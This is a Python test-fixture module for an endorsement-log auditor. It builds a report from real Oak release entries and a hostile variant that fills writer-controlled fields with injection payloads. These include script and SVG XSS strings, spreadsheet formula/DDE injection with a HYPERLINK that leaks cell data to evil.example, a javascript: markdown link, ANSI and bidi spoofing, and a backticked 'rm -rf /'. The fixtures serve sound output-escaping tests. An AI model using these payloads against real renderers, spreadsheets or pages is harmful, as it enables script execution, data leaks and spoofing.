"""Report documents built by hand for the renderer tests.

`oak_report()` is built from the real Oak entries under tests/data/oak (UUIDs, log indexes,
integrated times, subjects, validity windows, the checkpoint each inclusion proof carries) and
findings made by `auditor.findings.Finding`; `hostile_report()` is the same document with text
that a malicious log writer controls replaced by payloads aimed at each output format.
"""

from __future__ import annotations

import base64
import copy
import hashlib
import json
from collections import Counter
from datetime import UTC, date, datetime
from typing import Any

from cryptography.hazmat.primitives import serialization

from auditor.findings import Finding, Suppression
from tests.oakdata import RELEASE, RELEASE_COMPONENTS

RELEASE_NAME = "oak-containers-milan-release"
CANDIDATE = "candidate-2025-07"

# Payloads a log writer (or anyone who names a subject) controls, one per trick.
SCRIPT = "<script>document.title='pwned-script'</script>"
IMG = "\"><img src=x onerror=\"document.title='pwned-img'\">"
SVG_BREAKOUT = "</text></svg><svg onload=\"document.title='pwned-svg'\">"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
DDE = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB_FORMULA = "\t=1+1"
CR_FORMULA = "\r=1+1"
PIPES = "a | b | c"
BACKTICKS = "``` `rm -rf /` ```"
MD_LINK = "[click](javascript:alert(1))"
MD_IMAGE = "![x](http://evil.example/pixel.png)"
AUTOLINK = "see https://evil.example/x and www.evil.example or mail admin@evil.example"
MENTION = "@everyone please look at #1"
ANSI = "\x1b[31mRED\x1b[0m\x1b]0;owned\x07"
BIDI = "invoice\u202egnp.exe"
NEWLINES = "line one\n| fake | row |\n# heading\r\n<br>"
LONG = "A" * 3000
HTML_ENTITY = "&lt;b&gt;bold?&lt;/b&gt; &amp;"

HOSTILE = (SCRIPT, IMG, SVG_BREAKOUT, HYPERLINK, DDE, MINUS, AT, TAB_FORMULA, CR_FORMULA, PIPES,
           BACKTICKS, MD_LINK, MD_IMAGE, AUTOLINK, MENTION, ANSI, BIDI, NEWLINES, LONG,
           HTML_ENTITY)


def _iso(seconds: int) -> str:
    return datetime.fromtimestamp(seconds, UTC).isoformat().replace("+00:00", "Z")


def _key_sha256(pem: bytes) -> str:
    key = serialization.load_pem_public_key(pem)
    der = key.public_bytes(serialization.Encoding.DER,
                           serialization.PublicFormat.SubjectPublicKeyInfo)
    return hashlib.sha256(der).hexdigest()


def _real_entry(component: str) -> dict[str, Any]:
    folder = RELEASE / "components" / component
    uuid, entry = next(iter(json.loads((folder / "logentry.json").read_text()).items()))
    statement = json.loads((folder / "endorsement.json").read_text())
    subject = statement["subject"][0]
    validity = statement["predicate"]["validity"]
    return {"uuid": uuid, "entry": entry, "subject": subject, "validity": validity,
            "key": _key_sha256((folder / "endorser_public_key.pem").read_bytes())}


def _head(checkpoint: str) -> dict[str, Any]:
    origin, size, root = checkpoint.split("\n")[:3]
    return {"tree_id": int(origin.rsplit(" ", 1)[1]), "tree_size": int(size),
            "root_hash": base64.b64decode(root).hex(), "checkpoint": checkpoint, "frozen": False}


def _endorsement(component: str, real: dict[str, Any], matches: list[str]) -> dict[str, Any]:
    entry = real["entry"]
    tree_id = _head(entry["verification"]["inclusionProof"]["checkpoint"])["tree_id"]
    checks = ["leaf_hash", "log_id", "inclusion_proof", "checkpoint_signature",
              "checkpoint_matches_proof", "set", "body", "body_signature", "endorser_key",
              "artifact_hash", "endorsement_signature", "statement", "validity", "subject"]
    return {
        "component": component, "key_sha256": real["key"], "uuid": real["uuid"],
        "log_index": entry["logIndex"],
        "tree_id": tree_id, "integrated_time": _iso(entry["integratedTime"]), "logged": True,
        "subject_name": real["subject"]["name"], "subject_digests": real["subject"]["digest"],
        "measurements": {"sha2_256": real["subject"]["digest"]["sha256"]},
        "valid_from": real["validity"]["notBefore"], "valid_until": real["validity"]["notAfter"],
        "statement_format": "endorsement/v1", "ok": True,
        "checks": [{"name": name, "ok": True, "detail": "ok"} for name in checks],
        "matches": matches,
    }


def _findings(reals: dict[str, dict[str, Any]]) -> list[Finding]:
    kernel = reals["kernel"]
    evidence = {"uuid": kernel["uuid"], "log_index": kernel["entry"]["logIndex"],
                "endorsed": kernel["subject"]["digest"], "observed": {"sha256": "00" * 32}}
    findings = [Finding("MATCH", c, f"{c} matches the endorsement logged at index "
                        f"{reals[c]['entry']['logIndex']}", {"uuid": reals[c]["uuid"]},
                        RELEASE_NAME, ("uuid",)) for c in RELEASE_COMPONENTS]
    findings += [
        Finding("DIGEST_MISMATCH", "kernel", "the bzImage digest differs from the endorsed one",
                evidence, CANDIDATE, ("uuid",)),
        Finding("NOT_ENDORSED", "stage0", "no endorsement vouches for this firmware",
                {"observed": {"sha384": "ab" * 48}}, CANDIDATE, ("observed",)),
        Finding("UNDECIDABLE_DIGEST", "init_ram_fs", "no common digest algorithm",
                {"endorsed": {"sha512": "cd" * 64}, "observed": {"sha256": "ef" * 32}},
                CANDIDATE, ("endorsed",)),
        Finding("ENDORSED_NOT_LOGGED", "system_image", "signed but never logged",
                {"subject": "oak_containers_system_image"}, CANDIDATE, ("subject",)),
        Finding("ENTRY_INVALID", "kernel_cmd_line", "failed checks: inclusion_proof",
                {"uuid": reals["kernel_cmd_line"]["uuid"], "failed": ["inclusion_proof"]},
                CANDIDATE, ("uuid",)),
        Finding("SHARD_ROTATED", None, "the log started a new shard", {"tree_id": 1}),
    ]
    waiver = Suppression("ENDORSED_NOT_LOGGED", "system_image", "staging build, tracked in "
                         "the release checklist", date(2099, 1, 1))
    return [f.suppress([waiver], date(2025, 7, 1)) for f in findings]


def oak_report() -> dict[str, Any]:
    """A schema-valid report over the five real release entries and a tampered candidate."""
    reals = {c: _real_entry(c) for c in RELEASE_COMPONENTS}
    checkpoint = reals["kernel"]["entry"]["verification"]["inclusionProof"]["checkpoint"]
    findings = _findings(reals)
    statuses = {"stage0": "not_endorsed", "kernel": "mismatch", "kernel_cmd_line": "invalid",
                "init_ram_fs": "undecidable", "system_image": "not_logged"}
    counts = Counter(f.severity.value for f in findings if f.suppressed_by is None)
    return {
        "schema_version": 1,
        "generated_at": "2025-07-01T12:00:00Z",
        "tool": {"name": "auditor", "version": "0.1.0"},
        "run": {"kind": "run", "started_at": "2025-07-01T11:59:00Z",
                "finished_at": "2025-07-01T12:00:00Z", "complete": True,
                "config": "deploy/auditor.toml", "offline": True},
        "logs": [{"log_id": reals["kernel"]["entry"]["logID"], "name": "rekor.sigstore.dev",
                  "heads": [_head(checkpoint)]}],
        "components": [{"name": c, "keys": [{"sha256": reals[c]["key"],
                                             "source": "reference_values/oak"}]}
                       for c in RELEASE_COMPONENTS],
        "endorsements": sorted(
            (_endorsement(c, reals[c], [f"{RELEASE_NAME}/{c}"]) for c in RELEASE_COMPONENTS),
            key=lambda e: e["integrated_time"], reverse=True),
        "releases": [
            {"name": RELEASE_NAME, "manifest": "releases/milan.toml", "components": [
                {"component": c, "artifact": f"artifacts/{c}.bin", "status": "match",
                 "detail": "matches the logged endorsement"} for c in RELEASE_COMPONENTS]},
            {"name": CANDIDATE, "manifest": "releases/candidate.toml", "components": [
                {"component": c, "artifact": f"candidate/{c}.bin", "status": statuses[c],
                 "detail": f"see the {statuses[c]} finding"} for c in RELEASE_COMPONENTS]
             + [{"component": "acpi", "artifact": None, "status": "info",
                 "detail": "observed only: no key covers it"}]},
        ],
        "findings": [f.to_json() for f in findings],
        "summary": {"by_severity": dict(counts), "suppressed": 1,
                    "endorsements": len(RELEASE_COMPONENTS), "failed_entries": 1,
                    "exit_code": 1},
    }


def hostile_report() -> dict[str, Any]:
    """`oak_report()` with every free-text field a log writer influences made hostile."""
    report = copy.deepcopy(oak_report())
    evil = "kernel" + SCRIPT + IMG
    rename = {"kernel": evil}

    def name(component: str | None) -> str | None:
        return rename.get(component, component) if component else component

    report["run"]["config"] = "configs/" + MD_LINK + ".toml"
    report["logs"][0]["name"] = SVG_BREAKOUT
    report["logs"][0]["heads"][0]["checkpoint"] += SCRIPT + ANSI
    for component in report["components"]:
        component["name"] = name(component["name"])
        component["keys"][0]["source"] = MD_IMAGE
    payloads = iter(HOSTILE * 4)
    for entry in report["endorsements"]:
        entry["component"] = name(entry["component"])
        entry["uuid"] = next(payloads)
        entry["subject_name"] = next(payloads)
        entry["subject_digests"][next(payloads)] = next(payloads)
        entry["measurements"]["cmdline_regex"] = next(payloads)
        entry["checks"][2] = {"name": "inclusion_proof", "ok": False, "detail": next(payloads)}
        entry["ok"] = False
        entry["matches"] = [next(payloads)]
    for release in report["releases"]:
        release["name"] += BIDI
        for row in release["components"]:
            row["component"] = name(row["component"]) or ""
            row["artifact"] = HYPERLINK
            row["detail"] = NEWLINES + PIPES
    report["releases"][1]["name"] = MENTION + BACKTICKS
    for index, finding in enumerate(report["findings"]):
        finding["component"] = name(finding["component"])
        finding["release"] = AUTOLINK if finding["release"] else None
        finding["detail"] = HOSTILE[index % len(HOSTILE)] + " " + SCRIPT
        finding["evidence"]["subject"] = IMG + ANSI + BIDI
        finding["evidence"]["note"] = HYPERLINK
        if finding["suppressed"]:
            finding["suppressed"]["reason"] = DDE + MD_LINK
    report["tool"]["version"] = AT
    return report
